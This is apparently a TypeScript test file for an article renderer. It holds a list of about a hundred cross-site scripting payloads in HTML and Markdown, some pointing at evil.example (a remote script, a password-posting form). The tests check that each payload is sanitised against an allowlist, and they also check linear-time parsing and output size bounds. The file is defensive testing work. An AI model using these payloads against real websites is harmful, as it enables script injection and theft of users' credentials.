import { array, assert, constantFrom, property } from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  type ArticleFormat,
  MOST_ARTICLE_BYTES,
  MOST_ARTICLE_HTML,
} from '#domain/content/articles/article.ts';
import { offering } from '#tests/stage/offering.ts';
import { renderArticle } from './render-article.ts';

const claims = { shown: () => undefined, list: () => [] };
const formats: readonly ArticleFormat[] = ['markdown', 'html'];

function htmlOf(content: string, format: ArticleFormat): string {
  const article = { content, format, origin: 'operator' as const, sources: [] };
  return renderArticle(article, { locale: 'en', offering, claims }, []).rendered.html;
}

const BACKTICK = '`';
const vectors = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script\n>',
  '<img src=x onerror=alert(1)>',
  '<img/src="x"/onerror=alert(1)>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<img src=javascript:alert(1)>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img srcset="https://evil.example/a 1x" src="/a" style="width:9999px">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<xmp><p title="</xmp><svg/onload=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  '<title><p title="</title><img src=x onerror=alert(1)>">',
  '<plaintext><script>alert(1)</script>',
  '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
  '<template><script>alert(1)</script></template>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>body{background:url(https://evil.example)}</style>',
  '<p style="background:url(javascript:alert(1))" class="site-header" id="main">x</p>',
  '<form action="https://evil.example"><input name=password><button>ok</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<video><source onerror=alert(1)></video><audio src onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1)>',
  '<div onpointerenter=alert(1) contenteditable autofocus onfocus=alert(1)>x</div>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A;&#x61;vascript&colon;alert(1)">x</a>',
  '<a href="javascript&#58;alert(1)">x</a>',
  '<a href="java&Tab;script&NewLine;:alert(1)">x</a>',
  '<a href="javascript&#0000058alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="feed:javascript:alert(1)">x</a>',
  '<a href="view-source:javascript:alert(1)">x</a>',
  '<a href="blob:https://evil.example/1">x</a>',
  `<a href=${BACKTICK}javascript:alert(1)${BACKTICK}>x</a>`,
  '<a target=_blank ping="https://evil.example" href="https://evil.example">x</a>',
  '<a href="https://e.example/&quot; onclick=&quot;alert(1)">x</a>',
  '<a href="https://user:pass@evil.example/">x</a>',
  '<a href="#source-1" id="source-1" name="forms">x</a>',
  '<<a href="javascript:alert(1)">x</a>',
  '<a href="/faq"><a href="javascript:alert(1)">x</a></a>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<!DOCTYPE html><script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
  '<p title="&lt;script&gt;">x</p>',
  '<table><td background="javascript:alert(1)" colspan="1 onclick=alert(1)">x</table>',
  '<ol start="1 onclick=alert(1)"><li value="x">x</ol>',
  '<h2 id="x" onclick="alert(1)">x <img src=x onerror=alert(1)></h2>',
  '<is-land onclick=alert(1)>x</is-land>',
  '\u0000<script\u0000>alert(1)</script>',
  '＜script＞alert(1)＜/script＞',
  '[x](javascript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](JAVASCRIPT&#58;alert(1))',
  '[x](java\\\nscript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](https://e.example "title\\" onclick=alert(1) x=\\"")',
  '[x](https://e.example/" onmouseover="alert(1))',
  '[x](//evil.example)',
  '![x" onerror="alert(1)](/a)',
  '![x](javascript:alert(1))',
  '![<script>alert(1)</script>](https://evil.example/a.png)',
  '<javascript:alert(1)>',
  '<https://e.example/"onclick="alert(1)>',
  '[x]\n\n[x]: javascript:alert(1)',
  '[x]: https://e.example "\' onclick=alert(1)"\n\n[x]',
  '```html" onclick="alert(1)\n<script>alert(1)</script>\n```',
  '`<script>alert(1)</script>`',
  '## <img src=x onerror=alert(1)> "onclick="alert(1)',
  '| <script>alert(1)</script> | [x](javascript:alert(1)) |\n|-|-|\n| <b onclick=x>a | b |',
  '> > > <script>alert(1)</script>',
  '[[package:"><script>alert(1)</script>]] [[claim:<b onclick=x>]] [^1"><script>]',
  '\\<script>alert(1)\\</script>',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
];

const ATTRIBUTES: Record<string, RegExp> = {
  href: /^(?:https?:\/\/|mailto:|tel:|\/(?!\/)|#)/,
  src: /^\/(?!\/)/,
  alt: /^/,
  title: /^/,
  rel: /^noopener(?: nofollow ugc)?$/,
  id: /^[a-z0-9-]+$/,
  class: /^(?:mark|wide|right|center)$/,
  'aria-label': /^/,
  role: /^group$/,
  tabindex: /^0$/,
  loading: /^lazy$/,
  scope: /^/,
  colspan: /^/,
  rowspan: /^/,
  start: /^/,
};
const ELEMENTS = new Set(
  (
    'h2 h3 h4 p ul ol li blockquote pre hr br dl dt dd table thead tbody tr th td figure figcaption ' +
    'strong em b i s code sub sup abbr q cite a img div'
  ).split(' '),
);

/** What is no plain text and none of the few tags and attributes that an article may have. */
function faultsOf(html: string): string[] {
  const tag = /<(\/?)([a-z0-9]+)((?: [a-z-]+="[^"<>]*")*)(?: \/)?>/g;
  const faults: string[] = [];
  const text = html.replaceAll(tag, (whole, slash: string, name: string, attributes: string) => {
    if (!ELEMENTS.has(name) || (slash && attributes)) faults.push(whole);
    for (const [, key = '', value = ''] of attributes.matchAll(/ ([a-z-]+)="([^"]*)"/g)) {
      if (!ATTRIBUTES[key]?.test(value)) faults.push(`${key}="${value}"`);
    }
    return '';
  });
  return /[<>]/.test(text) ? [...faults, text] : faults;
}

describe.each(formats)('a hostile text as %s', (format) => {
  it.each(vectors)('renders harmless: %j', (vector) => {
    expect(faultsOf(htmlOf(vector, format))).toEqual([]);
    expect(faultsOf(htmlOf(`text ${vector} text`, format))).toEqual([]);
    expect(faultsOf(htmlOf(`<p>${vector}<b>`, format))).toEqual([]);
  });

  it('renders harmless however its pieces are put together', () => {
    const chunk = constantFrom(...vectors.flatMap((vector) => vector.split(/(?<=[<>"\][()])/)));
    assert(
      property(array(chunk, { minLength: 2, maxLength: 12 }), (units) => {
        expect(faultsOf(htmlOf(units.join(''), format))).toEqual([]);
      }),
      { numRuns: 1500 },
    );
  });

  it.each([
    ['opening brackets', '['],
    ['pictures begun', '!['],
    ['links begun', '[a]('],
    ['codes begun', '[['],
    ['angle brackets', '<'],
    ['comments begun', '<!--'],
    ['divisions', '<div>'],
    ['links within links', '<a href="x">'],
    ['attributes that do not end', '<a href="'],
    ['ampersands', '&#'],
    ['stars', '*a_ '],
    ['code marks', '` `` '],
    ['quotes', '> '],
    ['lists', '- '],
    ['cells', '|a'],
    ['headings', '## a\n'],
    ['definitions', '[a]: /x\n'],
    ['backslashes', '\\'],
  ])('of 200 kB of %s takes no more than its length', (_, part) => {
    const timeOf = (bytes: number) => {
      const text = part.repeat(bytes / part.length);
      // Of this thread alone: what else the machine does is no fault of the text.
      const begun = process.threadCpuUsage();
      htmlOf(text, format);
      const { user, system } = process.threadCpuUsage(begun);
      return (user + system) / 1000;
    };
    timeOf(20_000);
    const short = Math.min(...Array.from({ length: 3 }, () => timeOf(50_000)));
    // Four times the length: sixteen times as long would be the square of it.
    const limit = Math.max(10 * short, 1000);
    let long = timeOf(200_000);
    // The fastest of three: the engine may have tidied up in between.
    for (let again = 0; again < 2 && long >= limit; again += 1) {
      long = Math.min(long, timeOf(200_000));
    }
    expect(long).toBeLessThan(limit);
  });
});

it('what is looked for would be found', () => {
  expect(faultsOf('<script>x</script>')).toHaveLength(2);
  expect(faultsOf('<a href="javascript:alert(1)">x</a>')).toHaveLength(1);
  expect(faultsOf('<a href="//evil.example">x</a>')).toHaveLength(1);
  expect(faultsOf('<p onclick="x">x</p>')).toHaveLength(1);
  expect(faultsOf('<p onclick=x>')).toHaveLength(1);
  expect(faultsOf('<img src="https://evil.example/">')).toHaveLength(1);
});

describe('a short text that would become a long page', () => {
  const address = `https://a.example/${'中'.repeat(3000)}`;
  it.each([
    ['a link that is defined once and used often', `[a]: ${address}\n\n${'[a] '.repeat(3000)}`],
    ['a picture likewise', `[a]: ${address}\n\n${'![a] '.repeat(3000)}`],
    ['signs that HTML writes with five', '&'.repeat(200_000)],
  ])('is left out: %s', (_, content) => {
    expect(htmlOf(content, 'markdown')).toBe('');
  });

  it('is shown up to the bound', () => {
    const { length } = htmlOf('[[package:ig-followers-1000]]\n\n'.repeat(6000), 'markdown');
    expect(length).toBeGreaterThan(2 * MOST_ARTICLE_BYTES);
    expect(length).toBeLessThanOrEqual(MOST_ARTICLE_HTML);
  });

  it('is shown where it is as long as an article may be', () => {
    const content = 'Sledující **přibývají** pomalu, viz [ceník](/cenik).\n\n'.repeat(3000);
    expect(htmlOf(content, 'markdown').length).toBeGreaterThan(200_000);
  });
});
